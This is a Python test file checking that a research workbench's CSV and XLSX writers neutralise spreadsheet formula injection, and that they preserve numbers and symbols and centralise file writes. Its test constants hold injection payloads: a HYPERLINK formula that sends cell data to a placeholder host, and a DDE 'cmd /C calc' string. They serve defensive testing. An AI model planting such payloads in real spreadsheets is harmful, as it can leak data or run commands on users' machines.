"""Spreadsheet-safe tables (issue 13, point 2): every CSV and XLSX the workbench writes goes
through :func:`helpers.core.io.write_table`. Numbers stay numbers, text that a spreadsheet
would run as a formula is neutralised with a leading ``'`` (OWASP), the publication's own
symbols survive, and no XLSX cell is a formula."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from helpers.core import io

HYPERLINK = '=HYPERLINK("https://voorbeeld.invalid/?d="&A1,"Klik hier")'
SOM = "@SUM(A1)"
DDE = "-2+3+cmd|' /C calc'!A0"
PLUS = "+1+1"
TAB = "\t=1+1"
CR = "\r=1+1"
GEVAARLIJK = (HYPERLINK, SOM, DDE, PLUS, TAB, CR)


def _tabel() -> pd.DataFrame:
    """An intervention table as the theme studies write it, with hostile names."""
    return pd.DataFrame({
        "interventie": [HYPERLINK, SOM, DDE, PLUS, TAB, CR, "Thuis op Straat", "-"],
        "type": ["Sleutelpersonen"] * 7 + ["–"],
        "respondenten": [12, 14, 20, 11, 10, 15, 30, 0],
        "aandeel": [0.5, 0.25, -1.5, 0.0, 1.0, 0.1, 0.75, float("nan")],
    })


def _csv_cellen(path) -> list[list[str]]:
    with open(path, encoding="utf-8", newline="") as f:
        return list(csv.reader(f))


def _xlsx_cellen(path) -> list:
    wb = load_workbook(path)
    return [c for ws in wb for rij in ws.iter_rows() for c in rij if c.value is not None]


def _inert(tekst: str) -> bool:
    return not tekst or tekst.startswith("'") or tekst[0] not in "=+-@\t\r"


def _check_csv(path, *, kolom: str = "interventie") -> None:
    rijen = _csv_cellen(path)
    kop, data = rijen[0], rijen[1:]
    for rij in data:
        for cel in rij:
            assert _inert(cel) or cel == "-" or cel.lstrip("-").replace(".", "").isdigit(), \
                f"{path.name}: actieve cel {cel!r}"
    # the header is the reader label of the column ("Interventie"), the id in the codebook
    idx = next(i for i, k in enumerate(kop) if k.lower().startswith(kolom))
    namen = [r[idx] for r in data]
    for naam in GEVAARLIJK:
        assert "'" + naam in namen, f"{naam!r} not neutralised in {path.name}: {namen}"


def _check_xlsx(path) -> list:
    cellen = _xlsx_cellen(path)
    formules = [(c.parent.title, c.coordinate, c.value) for c in cellen if c.data_type == "f"]
    assert not formules, f"formula cells in {path.name}: {formules}"
    assert {c.data_type for c in cellen} <= {"s", "n", "b"}
    # XlsxWriter stores a CR as the OOXML escape _x000D_, which openpyxl does not decode
    teksten = [c.value.replace("_x000D_", "\r") for c in cellen if c.data_type == "s"]
    assert all(_inert(t) or t == "-" for t in teksten), [t for t in teksten if not _inert(t)]
    for naam in GEVAARLIJK:
        assert "'" + naam in teksten, f"{naam!r} not neutralised in {path.name}"
    return cellen


# --------------------------------------------------------------------------- the cell rule
@pytest.mark.parametrize("tekst", [*GEVAARLIJK, "=1", "+", "@", "-x", "'=al geciteerd"])
def test_formula_like_text_gets_a_quote_and_comes_back(tekst):
    veilig = io.neutralise_cell(tekst)
    assert veilig == "'" + tekst
    assert io.restore_cell(veilig) == tekst


@pytest.mark.parametrize("tekst", ["-", "–", ".", "x", "-3,5", "+12%", "-0.25", "1e-5",
                                   "Thuis op Straat", "'", "'citaat'", ""])
def test_symbols_numbers_and_plain_text_stay(tekst):
    assert io.neutralise_cell(tekst) == tekst
    assert io.restore_cell(tekst) == tekst


def test_non_text_values_are_untouched():
    for v in (3, -2.5, True, None, float("nan")):
        assert io.neutralise_cell(v) is v


# --------------------------------------------------------------------------- the writer
def test_write_table_csv_neutralises_text_keeps_numbers_and_symbols(tmp_path):
    pad = io.write_table(tmp_path / "interventies.csv", _tabel())
    _check_csv(pad)
    rijen = _csv_cellen(pad)
    assert rijen[8][0] == "-" and rijen[8][1] == "–"  # CBS nihil and the suppression dash
    terug = pd.read_csv(pad)
    assert pd.api.types.is_integer_dtype(terug["respondenten"])
    assert pd.api.types.is_float_dtype(terug["aandeel"]) and terug["aandeel"].iloc[2] == -1.5
    # the workbench reads its own tables back unchanged
    pd.testing.assert_frame_equal(io.read_table(pad), _tabel())


def test_write_table_neutralises_column_headers(tmp_path):
    df = pd.DataFrame({HYPERLINK: [1], "n": [2]})
    pad = io.write_table(tmp_path / "kop.csv", df)
    assert _csv_cellen(pad)[0] == ["'" + HYPERLINK, "n"]
    assert list(io.read_table(pad).columns) == [HYPERLINK, "n"]
    xlsx = io.write_table(tmp_path / "kop.xlsx", df)
    assert load_workbook(xlsx).active["A1"].value == "'" + HYPERLINK


def test_write_table_xlsx_has_no_formulas_and_numeric_cells(tmp_path):
    pad = io.write_table(tmp_path / "t.xlsx", {"Interventies": _tabel()},
                         koppen={"Interventies": [SOM, "Bron: CBS"]})
    cellen = _check_xlsx(pad)
    ws = load_workbook(pad)["Interventies"]
    assert ws["A1"].value == "'" + SOM and ws["A2"].value == "Bron: CBS" and ws["A3"].value is None
    assert [c.value for c in ws[4]] == ["interventie", "type", "respondenten", "aandeel"]
    assert ws["C5"].data_type == "n" and ws["C5"].value == 12
    assert ws["D7"].data_type == "n" and ws["D7"].value == -1.5
    assert ws["A12"].value == "-" and ws["B12"].value == "–" and ws["D12"].value is None
    assert sum(c.data_type == "n" for c in cellen) == 8 + 7


def test_write_table_refuses_unknown_formats(tmp_path):
    with pytest.raises(ValueError, match="onbekend tabelformaat"):
        io.write_table(tmp_path / "t.ods", _tabel())
    with pytest.raises(ValueError, match="één tabel"):
        io.write_table(tmp_path / "t.csv", {"a": _tabel()})


# --------------------------------------------------------------------------- every writer
def test_notebook_output_tables_are_neutralised(tmp_path):
    from helpers.kit.output import Uitvoer

    u = Uitvoer("alle", "33_veerkracht", base=tmp_path)
    pad = u.tabel(_tabel(), "interventies", titel="Interventies", bron="Registratie")
    _check_csv(pad)


def test_downloads_csv_and_xlsx_are_inert(tmp_path):
    from helpers.publish.edition import XLSX_DOWNLOAD, write_downloads

    tabellen = [
        {"notebook": "33_veerkracht", "naam": "interventies", "df": _tabel(),
         "download": "downloads/33_veerkracht-interventies.csv",
         "meta": {"titel": "Interventies", "bron": "Registratie"}},
        {"notebook": "40_samenhang", "naam": "meervoudige_effecten", "df": _tabel(),
         "download": "downloads/40_samenhang-meervoudige_effecten.csv",
         "meta": {"titel": HYPERLINK, "bron": "Gecodeerde fragmenten"}},
    ]
    write_downloads(tabellen, tmp_path, {"attributie": []}, demo=True, editie="e1",
                    aannames=tmp_path / "geen.md")
    cellen = _check_xlsx(tmp_path / XLSX_DOWNLOAD)
    for t in tabellen:
        _check_csv(tmp_path / t["download"])
    wb = load_workbook(tmp_path / XLSX_DOWNLOAD)
    assert wb.sheetnames == ["33_interventies", "40_meervoudige_effecten", "Metadata", "Codeboek"]
    ws = wb["33_interventies"]
    assert ws["A1"].value == "Interventies" and ws["A3"].value.startswith("Let op")
    assert ws["A5"].value == "Interventie" and ws["A6"].value == "'" + HYPERLINK
    assert ws["C6"].data_type == "n" and ws["A13"].value == "-"
    assert wb["40_meervoudige_effecten"]["A1"].value == "'" + HYPERLINK  # the title row too
    assert any(c.data_type == "n" for c in cellen)
    meta = _csv_cellen(tmp_path / "downloads" / "metadata.csv")
    assert [r[2] for r in meta[1:] if r[2].endswith('"Klik hier")')] == ["'" + HYPERLINK]


def test_survey_tables_are_neutralised(tmp_path):
    from helpers.studies.survey import write_tables

    verhalen = pd.DataFrame({"titel": list(GEVAARLIJK), "verhaal": ["tekst"] * len(GEVAARLIJK),
                             "n": range(len(GEVAARLIJK))})
    (pad,) = write_tables({"verhalen": verhalen}, tmp_path)
    _check_csv(pad, kolom="titel")


def test_publication_reads_neutralised_tables_back_as_written(tmp_path):
    from helpers.kit.output import Uitvoer
    from helpers.publish.content import load_resultaat

    u = Uitvoer("alle", "33_veerkracht", base=tmp_path)
    u.tabel(_tabel(), "interventies", titel="Interventies", bron="Registratie")
    u.write()
    r = load_resultaat(tmp_path, "alle", "33_veerkracht")
    pd.testing.assert_frame_equal(r.load_tabel("interventies"), _tabel())


def test_no_table_writer_outside_core_io():
    """Every CSV/XLSX of the workbench goes through helpers.core.io.write_table. Only the
    demo-data generator writes its own files: fictitious raw inputs in the formats of the
    sources (CBS, Sprockler), not tables for readers."""
    src = Path(__file__).resolve().parents[2] / "src" / "helpers"
    patroon = re.compile(r"\.to_csv\(|\.to_excel\(|ExcelWriter|csv\.writer|openpyxl\.Workbook"
                         r"|xlsxwriter\.Workbook")
    overtreders = []
    for p in sorted(src.rglob("*.py")):
        rel = p.relative_to(src).as_posix()
        if rel == "core/io.py" or rel.startswith("demodata/"):
            continue
        for nr, regel in enumerate(p.read_text(encoding="utf-8").splitlines(), 1):
            if patroon.search(regel):
                overtreders.append(f"{rel}:{nr}: {regel.strip()}")
    assert not overtreders, "tables written outside helpers.core.io:\n" + "\n".join(overtreders)


def test_no_atomic_writer_outside_core_io():
    """One atomic writer: temp-file-and-replace lives only in helpers.core.io (house plan 7)."""
    src = Path(__file__).resolve().parents[2] / "src" / "helpers"
    patroon = re.compile(r"os\.replace\(|os\.rename\(|tempfile\.mkstemp\(|tempfile\.mkdtemp\("
                         r"|shutil\.move\(")
    overtreders = [f"{p.relative_to(src)}:{nr}: {regel.strip()}"
                   for p in sorted(src.rglob("*.py")) if p.relative_to(src).as_posix() != "core/io.py"
                   for nr, regel in enumerate(p.read_text(encoding="utf-8").splitlines(), 1)
                   if patroon.search(regel)]
    assert not overtreders, "atomic writes outside helpers.core.io:\n" + "\n".join(overtreders)


def test_write_files_together_all_or_nothing(tmp_path):
    from helpers.core.io import write_files_together

    out = tmp_path / "uit"
    out.mkdir()
    (out / "oud.txt").write_text("oud", encoding="utf-8")
    (out / "a.txt").write_text("vorige", encoding="utf-8")

    def mislukt(p):
        raise RuntimeError("schrijven mislukt")

    with pytest.raises(RuntimeError):
        write_files_together(out, {"a.txt": lambda p: p.write_text("nieuw", encoding="utf-8"),
                                   "b.txt": mislukt}, remove=["oud.txt"])
    assert (out / "a.txt").read_text(encoding="utf-8") == "vorige"
    assert (out / "oud.txt").exists() and not (out / "b.txt").exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["uit"]  # no temp folder left

    paths = write_files_together(out, {"a.txt": lambda p: p.write_text("nieuw", encoding="utf-8"),
                                       "b.txt": lambda p: p.write_text("b", encoding="utf-8")},
                                 remove=["oud.txt"])
    assert [p.name for p in paths] == ["a.txt", "b.txt"]
    assert (out / "a.txt").read_text(encoding="utf-8") == "nieuw"
    assert not (out / "oud.txt").exists()


# --------------------------------------------------------------------------- reads (13.4)
def test_reads_are_recorded_in_the_log_cached_reads_included(tmp_path, monkeypatch):
    t = tmp_path / "t.parquet"
    pd.DataFrame({"a": [1, 2], "b": ["x", "y"]}).to_parquet(t, index=False)
    log = tmp_path / "log.txt"
    monkeypatch.setenv(io.READ_LOG_ENV, str(log))
    first = io.read_parquet(t)
    first.loc[0, "a"] = 99  # a copy: the cache stays as read
    again = io.read_parquet(t)  # cached
    assert again["a"].tolist() == [1, 2]
    pd.testing.assert_frame_equal(again, pd.read_parquet(t))
    io.record_read(tmp_path / "afwezig.json")  # looked for, absent: still a read
    assert str(t) in io.recorded_reads()
    assert log.read_text().splitlines() == [str(t), str(tmp_path / "afwezig.json")]
    # a new log (the next run, e.g. a forked kernel) first gets every earlier read
    log2 = tmp_path / "log2.txt"
    monkeypatch.setenv(io.READ_LOG_ENV, str(log2))
    io.start_read_log()
    assert {str(t), str(tmp_path / "afwezig.json")} <= set(log2.read_text().splitlines())


def test_read_cache_is_keyed_on_content(tmp_path):
    t = tmp_path / "t.parquet"
    pd.DataFrame({"a": [1]}).to_parquet(t, index=False)
    assert io.warm_cache(tmp_path) == [t]
    assert str(t) not in io.recorded_reads()  # warming the cache is no read of a run
    assert io.read_parquet(t)["a"].tolist() == [1]
    pd.DataFrame({"a": [2]}).to_parquet(t, index=False)  # same path, new content
    assert io.read_parquet(t)["a"].tolist() == [2]
    assert io.read_parquet(t, columns=["a"]).columns.tolist() == ["a"]
    with pytest.raises(FileNotFoundError):
        io.read_parquet(tmp_path / "weg.parquet")
